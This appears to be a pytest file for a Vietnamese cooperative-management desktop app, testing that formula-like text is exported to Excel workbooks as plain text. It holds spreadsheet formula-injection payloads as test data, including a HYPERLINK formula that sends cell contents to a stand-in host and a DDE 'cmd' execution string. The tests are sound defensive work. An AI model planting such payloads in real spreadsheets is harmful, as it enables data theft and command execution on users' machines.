"""No text ever becomes a live formula in a workbook the program writes: the export of every
record type, the summary report and the template, each read back with openpyxl and in its XML.
Numbers stay numbers, negative ones too."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from kttt_desktop.core.reports.summary import build_report
from kttt_desktop.core.reports.summary_xlsx import write_summary_xlsx
from kttt_desktop.core.xlsx.cells import is_formula_like, put
from kttt_desktop.core.xlsx.export import export_workbook
from kttt_desktop.core.xlsx.template import write_template
from tests.core.factories import htx, member

# One of each start a spreadsheet reads as a formula, and an error value openpyxl would write
# as an error; every one must come back as the very same text.
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', "+84 912 345 678", "-2+3",
           "@SUM(1+1)", "\t=1+1", "\r=1+1", "=1+1", "#N/A"]


def _formulas(path: Path) -> list[str]:
    """Every formula element in the workbook's sheets, straight from the XML."""
    with zipfile.ZipFile(path) as archive:
        return [match for name in archive.namelist() if name.startswith("xl/worksheets/")
                for match in re.findall(r"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>|<(?:\w+:)?f/>",
                                        archive.read(name).decode("utf-8"))]


def _text_cells(path: Path) -> dict[str, tuple[str, bool]]:
    """Every text value in the workbook, with its cell type and whether it has the quote mark."""
    found: dict[str, tuple[str, bool]] = {}
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found[cell.value] = (cell.data_type, bool(cell.quotePrefix))
    return found


def _assert_all_text(path: Path, values: list[str]) -> None:
    assert _formulas(path) == []
    cells = _text_cells(path)
    for value in values:
        # A bare carriage return comes back as written (the XML escapes it) or, where the XML
        # is written without that escape, as a line break: never as a formula.
        found = cells.get(value) or cells.get(value.replace("\r", "\n"))
        assert found == ("s", True), (value, found)


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_is_recognised(value):
    assert is_formula_like(value)


@pytest.mark.parametrize("value", ["HTX Chè Bum Tở", "", "Số 5 - Bản Nậm Củm", "#12 Bản Lả", -5, 12.5, None])
def test_plain_text_and_numbers_are_left_alone(value):
    assert not is_formula_like(value)


def test_put_keeps_numbers_numbers_and_text_text(tmp_path):
    book = Workbook()
    sheet = book.active
    put(sheet, 1, 1, -1_500_000)
    put(sheet, 1, 2, "=1+1")
    put(sheet, 1, 3, "HTX Chè")
    book.save(tmp_path / "a.xlsx")
    back = load_workbook(tmp_path / "a.xlsx").active
    assert (back["A1"].value, back["A1"].data_type) == (-1_500_000, "n")
    assert (back["B1"].value, back["B1"].data_type, back["B1"].quotePrefix) == ("=1+1", "s", True)
    assert (back["C1"].value, back["C1"].data_type, back["C1"].quotePrefix) == ("HTX Chè", "s", False)


@pytest.fixture
def hostile(core_registry):
    """Records whose every kind of text column starts like a formula: names and notes typed in
    the form, and — as a hand-edited database or a bad package could leave them — a code that
    is not in its catalogue, a date that is not a date and text in a money column."""
    r = core_registry
    org = r.create("organization", htx(name=HOSTILE[0], village=HOSTILE[1])).record
    r.create("member", member(org["id"], full_name=HOSTILE[2], village=HOSTILE[3]))
    r.create("worker", {"organization_id": org["id"], "full_name": "Pờ Văn Lả", "started_on": "2021-03-01"})
    r.create("support", {"organization_id": org["id"], "category": "training", "content": "Tập huấn",
                         "decision_date": "2022-05-01", "amount_vnd": 2_000_000, "stage": "disbursed"})
    # The form trims spaces, tabs and line breaks; what it would trim arrives some other way.
    r.conn.execute("UPDATE worker SET full_name = ?", (HOSTILE[4],))
    r.conn.execute("UPDATE support SET content = ?, amount_vnd = -2000000", (HOSTILE[5],))  # a number, even < 0
    r.conn.execute("UPDATE member SET gender = ?, birth_date = ?, capital_vnd = ?",
                   (HOSTILE[6], HOSTILE[7], "=2*3"))
    return r


def test_every_sheet_of_the_export_writes_formula_like_text_as_text(hostile, tmp_path):
    path = tmp_path / "xuat.xlsx"
    export_workbook(hostile, path)
    _assert_all_text(path, [*HOSTILE, "=2*3"])
    support = load_workbook(path)["Hỗ trợ"]
    amounts = [cell for row in support.iter_rows(min_row=2) for cell in row if cell.value == -2_000_000]
    assert amounts and amounts[0].data_type == "n"  # a negative amount is still a number


def test_the_summary_report_writes_names_as_text(hostile, tmp_path):
    hostile.set_setting("report_signer_name", "=cmd|' /C calc'!A0")
    hostile.set_officer("@Lò Văn Hương")
    path = write_summary_xlsx(build_report(hostile), tmp_path / "bao-cao.xlsx")
    _assert_all_text(path, [HOSTILE[0], "=cmd|' /C calc'!A0", "@Lò Văn Hương"])


def test_the_template_has_no_formula(tmp_path):
    assert _formulas(write_template(tmp_path / "mau.xlsx")) == []
